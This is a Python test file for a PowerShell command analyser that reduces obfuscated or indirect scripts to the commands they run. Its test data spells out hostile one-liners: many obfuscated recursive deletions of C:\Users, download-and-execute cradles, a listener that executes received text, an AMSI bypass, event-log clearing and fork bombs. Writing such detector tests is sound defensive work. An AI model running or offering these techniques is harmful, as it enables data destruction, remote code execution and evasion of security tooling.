"""Claims about what a PowerShell text comes to: names and paths fold, blocks run, made-up text is read again."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from chrono.scan.command import UNKNOWN, Evaluation, Pattern

WIPE = ("Remove-Item", "C:\\Users", "-Recurse")

SPELLINGS = [
    "ri C:\\Users -r",
    "del C:\\Users -Recurse",
    "RM C:\\Users -RECURSE",
    "Microsoft.PowerShell.Management\\Remove-Item C:\\Users -Recurse",
    "R`emove-It`em C:\\Users -Rec`urse",
    "& 'Remove-Item' C:\\Users -Recurse",
    "& ('Remove' + '-Item') C:\\Users -Recurse",
    "& ('{1}-{0}' -f 'Item', 'Remove') C:\\Users -Recurse",
    "& ('meti-evomer'[-1..-11] -join '') C:\\Users -Recurse",
    "& (Get-Command Rem*ve-It?m) C:\\Users -Recurse",
    "& ('x', 'ri')[1] C:\\Users -Recurse",
    "$c = 'Remove-Item'; & $c C:\\Users -Recurse",
    "Set-Alias zap Remove-Item; zap C:\\Users -Recurse",
    "$a = @{ Path = 'C:\\Users'; Recurse = $true }; Remove-Item @a",
    "$a = 'C:\\Users', '-Recurse'; $p = $a[0]; ri $p -r",
    "function f($x) { Remove-Item $x -Recurse }; f C:\\Users",
    "function f { Remove-Item $args[0] -Recurse }; f 'C:\\Users'",
    "filter f { Remove-Item $_ -Recurse }; 'C:\\Users' | f",
    "class K { static [void] Go($p) { Remove-Item $p -Recurse } }; [K]::Go('C:\\Users')",
    "$b = { Remove-Item C:\\Users -Recurse }; & $b",
    "$b = { param($p) Remove-Item $p -Recurse }; $b.Invoke('C:\\Users')",
    "'C:\\Users' | ForEach-Object { Remove-Item $_ -Recurse }",
    "foreach ($p in @('C:\\Users')) { Remove-Item $p -Recurse }",
    "for ($i = 0; $i -lt 1; $i++) { Remove-Item C:\\Users -Recurse }",
    "if ($true) { Remove-Item C:\\Users -Recurse } else { Get-Date }",
    "try { throw 'x' } catch { Remove-Item C:\\Users -Recurse }",
    "$null = Remove-Item C:\\Users -Recurse",
    "[void]$(Remove-Item C:\\Users -Recurse)",
    '"$(Remove-Item C:\\Users -Recurse)" | Out-Null',
    "Invoke-Expression 'Remove-Item C:\\Users -Recurse'",
    "'Remove-Item C:\\Users -Recurse' | iex",
    "iex ('Remove-XItem C:\\Users -Recurse' -replace 'X', '')",
    "iex ('Remove-XItem C:\\Users -Recurse'.Replace('X', ''))",
    "iex (('Remove-Item', 'C:\\Users', '-Recurse') -join ' ')",
    "iex ([char]82 + 'emove-Item C:\\Users -Recurse')",
    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gQzpcVXNlcnMgLVJlY3Vyc2U=')))",
    "& ([scriptblock]::Create('Remove-Item C:\\Users -Recurse'))",
    "$ExecutionContext.InvokeCommand.InvokeScript('Remove-Item C:\\Users -Recurse')",
    "[PowerShell]::Create().AddScript('Remove-Item C:\\Users -Recurse').Invoke()",
    "Invoke-Command -ScriptBlock { Remove-Item $args[0] -Recurse } -ArgumentList C:\\Users",
    "Start-Job { Remove-Item C:\\Users -Recurse }",
    "[IO.Directory]::Delete('C:\\Users', $true)",
    "(Get-Item C:\\Users).Delete($true)",
    "[IO.DirectoryInfo]::new('C:\\Users').Delete($true)",
    ". .\\lib.ps1; Wipe C:\\Users",
]


@pytest.mark.parametrize("text", SPELLINGS)
def test_every_spelling_comes_to_the_same_command(text: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert WIPE in argvs(text)


@pytest.mark.parametrize(
    "text",
    [
        "'Remove-Item C:\\Users -Recurse'",
        "Write-Host 'Remove-Item C:\\Users -Recurse'",
        "$x = 'Remove-Item C:\\Users -Recurse'; $x.Length",
        "# Remove-Item C:\\Users -Recurse\nGet-Date",
        "function f { Remove-Item C:\\Users -Recurse }",
        "$b = { Remove-Item C:\\Users -Recurse }",
        "@'\nRemove-Item C:\\Users -Recurse\n'@ | Set-Content notes.md",
        "if ($false) { Remove-Item C:\\Users -Recurse }",
        "Remove-Item C:\\Users -Recurse -WhatIf",
        "$WhatIfPreference = $true; Remove-Item C:\\Users -Recurse",
    ],
)
def test_text_that_does_not_run_is_no_command(text: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert not any(argv[0] == "Remove-Item" for argv in argvs(text))


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("Remove-Item $HOME", "/home/dev"),
        ("Remove-Item ~\\x", "~\\x"),
        ('Remove-Item "$env:USERPROFILE\\x"', "/home/dev\\x"),
        ("Remove-Item (Join-Path $HOME 'a' )", "/home/dev/a"),
        ("Remove-Item ([IO.Path]::Combine('C:\\a', 'b'))", "C:\\a\\b"),
        ("Remove-Item ([Environment]::GetFolderPath('Desktop'))", "/home/dev/Desktop"),
        ("$d = Split-Path $PWD; Remove-Item $d", "/home/dev"),
        ("Get-ChildItem C:\\x | Remove-Item", "C:\\x\\*"),
        ("gci C:\\x -Filter *.log | ri", "C:\\x\\*.log"),
        ("gci C:\\x | ? Name -eq 'a.txt' | ri", "C:\\x\\a.txt"),
        ("gci C:\\x | ? { $_.Extension -eq '.tmp' } | % { ri $_.FullName }", "C:\\x\\*.tmp"),
        ("New-PSDrive -Name R -PSProvider FileSystem -Root C:\\x; Remove-Item R:\\a", "C:\\x/a"),
        ('Remove-Item "C:\\$(1 + 1)"', "C:\\2"),
        ("$x = if ($true) { 'C:\\a' } else { 'C:\\b' }; Remove-Item $x", "C:\\a"),
        ('$x = 5; $x++; Remove-Item "C:\\$x"', "C:\\6"),
        ("Remove-Item ('C:\\' + ('a','b','c' | Select-Object -First 3)[0])", "C:\\a"),
    ],
)
def test_paths_fold(text: str, path: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert any(argv[:2] == ("Remove-Item", path) for argv in argvs(text)), argvs(text)


def test_an_unknown_part_stays_unknown(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert argvs('Remove-Item "C:\\$x"') == [("Remove-Item", Pattern(("C:\\", None)))]
    assert argvs("Remove-Item $x") == [("Remove-Item", UNKNOWN)]


def test_branches_join(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    text = "$p = 'C:\\a'; if (Test-Path x) { $p = 'C:\\b' }; Remove-Item $p"
    assert {argv[1] for argv in argvs(text) if argv[0] == "Remove-Item"} == {"C:\\a", "C:\\b"}


def test_the_folder_is_followed(read: Callable[[str], Evaluation]) -> None:
    found = read("Set-Location C:\\x; Remove-Item a; Push-Location D:\\; Remove-Item b; Pop-Location; Remove-Item c")
    assert [c.cwd for c in found.commands if c.argv[0] == "Remove-Item"] == ["C:/x", "D:", "C:/x"]


def test_what_comes_from_the_network_feeds_what_runs_it(read: Callable[[str], Evaluation]) -> None:
    for text in (
        "iwr https://x.example/a | iex",
        "iex (irm https://x.example/a)",
        "$s = (New-Object Net.WebClient).DownloadString('https://x.example/a'); iex $s",
        "& ([scriptblock]::Create((iwr https://x.example/a).Content))",
    ):
        last = read(text).commands[-1]
        assert last.argv[0] == "Invoke-Expression", text
        assert any("https://x.example/a" in feed for feed in last.upstream), text


def test_a_program_of_the_machine_keeps_its_arguments(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert argvs("git commit -m 'a b' --amend") == [("git", "commit", "-m", "a b", "--amend")]
    assert argvs("cmd --% /c dir & echo") == [("cmd", "/c", "dir", "&", "echo")]
    assert argvs("rm -rf build") == [("rm", "-rf", "build")]
    assert argvs("curl -X POST http://x") == [("curl", "-X", "POST", "http://x")]


def test_programs_are_started_by_whatever_starts_them(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    wanted = ("cmd", "/c", "rd", "/s", "/q", "C:\\Users")
    for text in (
        "Start-Process cmd -ArgumentList '/c rd /s /q C:\\Users'",
        "Start-Process cmd '/c','rd','/s','/q','C:\\Users' -Wait",
        "[Diagnostics.Process]::Start('cmd', '/c rd /s /q C:\\Users')",
        "(New-Object -ComObject WScript.Shell).Run('cmd /c rd /s /q C:\\Users')",
        "([wmiclass]'Win32_Process').Create('cmd /c rd /s /q C:\\Users')",
        "$i = New-Object Diagnostics.ProcessStartInfo; $i.FileName = 'cmd'; $i.Arguments = '/c rd /s /q C:\\Users'; "
        "[Diagnostics.Process]::Start($i)",
    ):
        assert wanted in argvs(text), text


def test_a_command_is_reported_where_it_stands(read: Callable[[str], Evaluation]) -> None:
    text = "& ([scriptblock]::Create((iwr http://x.example/y).Content))"
    assert [c.span for c in read(text).commands if c.argv[0] == "Invoke-Expression"] == [(0, len(text))]


def test_what_is_written_can_be_followed(read: Callable[[str], Evaluation]) -> None:
    assert ("/home/dev/proj/x.ps1", "Get-Date") in read("'Get-Date' > x.ps1; .\\x.ps1").files
    assert ("/home/dev/proj/x.ps1", "Get-Date") in read("[IO.File]::WriteAllText('x.ps1', 'Get-Date')").files


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("Remove-Item 'C:\\", "unparsed"),
        ("(" * 5_000, "limit"),
        ("a" * 70_000, "limit"),
        ("function f { f }; f", "limit"),
        ("$x = 'iex $x'; iex $x", "limit"),
        ("git " + "a " * 2_000, "limit"),
        ("1..2000 | % { 1..2000 | % { Get-Date } }", "limit"),
    ],
)
def test_limits_and_faults_are_decisions(text: str, kind: str, read: Callable[[str], Evaluation]) -> None:
    assert [refusal.kind for refusal in read(text).refusals] == [kind]


def test_a_junction_of_the_text_is_seen_through(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    text = "New-Item -ItemType Junction -Path dist -Target C:\\Users; Remove-Item dist\\dev -Recurse"
    assert ("Remove-Item", "C:/Users/dev", "-Recurse") in argvs(text)


@pytest.mark.parametrize(
    "text",
    [
        "[IO.File]::WriteAllText('list.txt', '')",
        "[IO.File]::WriteAllText('list.txt', [string]::Empty)",
        "[IO.File]::WriteAllBytes('list.txt', @())",
        "[IO.File]::Create('list.txt').Close()",
        "[IO.File]::Open('list.txt', 'Truncate').Close()",
        "[IO.File]::Open('list.txt', [IO.FileMode]::Create)",
        "[IO.FileStream]::new('list.txt', [IO.FileMode]::Truncate)",
        "[IO.StreamWriter]::new('list.txt')",
        "$f = [IO.File]::OpenWrite('list.txt'); $f.SetLength(0)",
        "(Get-Item list.txt).Open('Truncate')",
    ],
)
def test_a_file_that_dotnet_empties_is_seen(text: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert ("Clear-Content", "list.txt") in argvs(text)


@pytest.mark.parametrize(
    "text",
    [
        "[IO.File]::WriteAllText('list.txt', 'a')",
        "[IO.File]::Open('list.txt', 'Open')",
        "[IO.File]::Open('list.txt', 'Open', 'Read')",
        "[IO.File]::OpenRead('list.txt').SetLength",
        "$f = [IO.File]::OpenWrite('list.txt'); $f.SetLength(9)",
        "[IO.StreamWriter]::new('list.txt', $true)",
    ],
)
def test_a_file_that_keeps_what_it_has_is_not_emptied(
    text: str, argvs: Callable[[str], list[tuple[object, ...]]]
) -> None:
    assert "Clear-Content" not in [argv[0] for argv in argvs(text)]


@pytest.mark.parametrize(
    "text",
    [
        "Set-Content list.txt $null",
        "'' | Set-Content list.txt",
        "$null | Out-File list.txt",
        "Out-File list.txt -InputObject ''",
    ],
)
def test_nothing_written_over_a_file_is_said(text: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert "-Value:" in argvs(text)[-1]


@pytest.mark.parametrize(
    "text", ["'a' | Set-Content list.txt", "$null | Out-File list.txt -Append", "Get-Date | Out-File list.txt"]
)
def test_something_written_to_a_file_is_no_emptying(
    text: str, argvs: Callable[[str], list[tuple[object, ...]]]
) -> None:
    assert "-Value:" not in argvs(text)[-1]


@pytest.mark.parametrize(
    ("text", "block"),
    [
        ("Invoke-Command -ComputerName a { Get-Service | Select-Object Name }", "{reads}"),
        ("Invoke-Command a { hostname; (Get-Item C:\\x).LastWriteTime }", "{reads}"),
        ("Invoke-Command a { Get-Service > C:\\x.txt }", "{…}"),
        ("Invoke-Command a { ./deploy.ps1 }", "{…}"),
        ("Invoke-Command a { $o.Wipe() }", "{…}"),
        ("Invoke-Command -ComputerName a -FilePath x.ps1 { Get-Date }", "{…}"),
        ("Invoke-Command { Get-Date }", "{…}"),
    ],
)
def test_a_block_that_only_looks_at_another_machine_is_told_apart(
    text: str, block: str, argvs: Callable[[str], list[tuple[object, ...]]]
) -> None:
    assert argvs(text)[0][:2] == ("Invoke-Command", block)


def test_clearing_a_log_through_dotnet_is_the_command_that_clears_it(
    argvs: Callable[[str], list[tuple[object, ...]]],
) -> None:
    log = "Diagnostics.EventLog"
    for text in (
        "[Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')",
        f"[{log}]::new('Security').Clear()",
        f"(New-Object System.{log} 'Security').Clear()",
    ):
        assert ("Clear-EventLog", "Security") in argvs(text)
    assert ("Clear-EventLog", "*") in argvs("Get-EventLog -List | % { $_.Clear() }")
    assert ("Remove-EventLog", "App") in argvs(f"[{log}]::Delete('App')")


def test_com_classes_are_known_by_name_and_identifier(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    for made in ("GetTypeFromProgID('Shell.Application')", "GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39')"):
        found = argvs(f"[activator]::CreateInstance([type]::{made}).item().ShellExecute('cmd', '/c ver')")
        assert ("cmd", "/c", "ver") in found


@pytest.mark.parametrize(
    "text",
    [
        "while ($x = Get-Content -Raw list.txt) { use $x; break }",
        "if ($x = Get-Content -Raw list.txt) { use $x }",
        "use ($x = Get-Content -Raw list.txt)",
    ],
)
def test_an_assignment_is_a_value_too(text: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert ("use", "one\ntwo\n") in argvs(text)


def test_what_a_listener_reads_is_from_outside(read: Callable[[str], Evaluation]) -> None:
    text = "$l = [Net.Sockets.TcpListener]44; $r = New-Object IO.StreamReader $l.AcceptTcpClient().GetStream()"
    last = read(f"{text}; while ($x = $r.ReadLine()) {{ iex $x }}").commands[-1]
    assert last.argv[0] == "Invoke-Expression"
    assert last.upstream[0][:2] == ("New-Object", "net.sockets.tcplistener")


def test_a_loop_that_starts_programs_without_end_is_told(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert ("fork-bomb",) in argvs("while ($true) { Start-Process pwsh }")
    assert ("fork-bomb",) in argvs("for (;1;) { Start-Job { 1 } }")
    for text in (
        "while ($true) { Start-Process pwsh -Wait }",
        "while ($true) { Start-Process pwsh; Start-Sleep 60 }",
        "while ($true) { Get-Date }",
        "foreach ($i in 1..9) { Start-Process pwsh }",
    ):
        assert ("fork-bomb",) not in argvs(text)


def test_services_and_database_commands_act_as_what_they_are(
    argvs: Callable[[str], list[tuple[object, ...]]],
) -> None:
    assert ("Stop-Service", "Spooler") in argvs("(Get-Service Spooler).Stop()")
    assert ("Stop-Service", "*sql*") in argvs("Get-Service *sql* | ForEach-Object { $_.Stop() }")
    query = ("Invoke-Sqlcmd", "-Query:DROP TABLE t")
    assert query in argvs(
        "$k = $c.CreateCommand(); $k = [Data.SqlClient.SqlCommand]::new('DROP TABLE t', $c); $k.ExecuteScalar()"
    )
    made = "$c = New-Object Data.SqlClient.SqlConnection 'x'; $k = $c.CreateCommand(); $k.CommandText = 'DROP TABLE t'"
    assert query in argvs(f"{made}; $k.ExecuteNonQuery()")
    assert query not in argvs(made)


def test_a_process_of_the_text_is_its_own(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    for text in ("Stop-Process -Id $p.Id", "$p | Stop-Process", "$p.Kill()"):
        assert argvs(f"$p = Start-Process npm -PassThru; {text}")[-1] == ("Stop-Process", "started")
    assert argvs("Get-Process npm | Stop-Process")[-1] == ("Stop-Process", "-Name:npm")


def test_an_alias_is_found_by_a_pattern(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert argvs("& (Get-Alias ie?) 'use it'")[-1] == ("use", "it")


def test_keys_of_the_registry_opened_through_dotnet_are_followed(
    argvs: Callable[[str], list[tuple[object, ...]]],
) -> None:
    key = "$k = [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('A\\B', $true)"
    assert argvs(f"{key}; $k.SetValue('n', 'v')")[-1] == ("Set-ItemProperty", "HKCU:\\A\\B", "-Name:n", "-Value:v")
    assert argvs(f"{key}; $k.DeleteValue('n')")[-1] == ("Remove-ItemProperty", "HKCU:\\A\\B", "-Name:n")
    assert argvs(f"{key}; $k.DeleteSubKeyTree('C')")[-1] == ("Remove-Item", "HKCU:\\A\\B\\C", "-Recurse")
    assert argvs(f"{key}; $k.CreateSubKey('C')")[-1] == ("New-Item", "HKCU:\\A\\B\\C")
    assert argvs(f"{key}; $k.GetValue('n')") == [] or argvs(f"{key}; $k.GetValue('n')")[-1][0] == "Invoke-Member"


def test_a_shortcut_is_written_where_it_says(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    made = "$l = (New-Object -ComObject WScript.Shell).CreateShortcut('C:\\x.lnk'); $l.TargetPath = 'y'"
    assert ("Set-Content", "C:\\x.lnk") in argvs(f"{made}; $l.Save()")
    assert ("Set-Content", "C:\\x.lnk") not in argvs(made)


def test_cmd_sees_what_the_text_put_into_the_environment(
    argvs: Callable[[str], list[tuple[object, ...]]],
) -> None:
    assert argvs("$env:X = 'ver'; cmd /c %x% %Y%")[-1] == ("cmd", "/c", "ver", "%Y%")


def test_a_private_field_of_powershell_is_set_for_one_reason(
    argvs: Callable[[str], list[tuple[object, ...]]],
) -> None:
    assert ("Disable-Amsi",) in argvs("[Ref].Assembly.GetTypes() | % { $_.GetField('x').SetValue($null, 1) }")
    assert ("Disable-Amsi",) not in argvs("[Ref].Assembly.GetTypes() | % { $_.GetField('x').GetValue($null) }")


@pytest.mark.parametrize(
    "text",
    [
        "& { param($a) & $a C:\\Users -Recurse } Remove-Item",
        "if ($x) { 1 } & 'Remove-Item' C:\\Users -Recurse",
        "[Management.Automation.Language.Parser]::ParseInput('ri C:\\Users -r', [ref]$n, [ref]$n).GetScriptBlock().Invoke()",
        "$p = [powershell]::Create(); [void]$p.AddCommand('ri').AddArgument('C:\\Users').AddParameter('r'); $p.Invoke()",
        "[powershell]::Create().AddCommand('ri').AddParameter('Path', 'C:\\Users').AddParameter('Recurse').Invoke()",
        "[runspacefactory]::CreateRunspace().CreatePipeline('ri C:\\Users -r').Invoke()",
    ],
)
def test_other_ways_to_run_a_text_run_it(text: str, argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    assert [argv[:2] for argv in argvs(text) if "Recurse" in str(argv)][-1] == WIPE[:2]


def test_objects_that_start_programs_start_them(argvs: Callable[[str], list[tuple[object, ...]]]) -> None:
    info = "[Diagnostics.ProcessStartInfo]@{ FileName = 'cmd'; Arguments = '/c ver' }"
    assert ("cmd", "/c", "ver") in argvs(f"[Diagnostics.Process]::Start({info})")
    assert ("cmd", "/c", "ver") in argvs("(New-Object -ComObject Excel.Application).DDEInitiate('cmd', '/c ver')")
    task = "$s = New-Object -ComObject Schedule.Service; $s.GetFolder('x').RegisterTaskDefinition('t', $d)"
    assert ("Register-ScheduledTask", "t") in argvs(task)
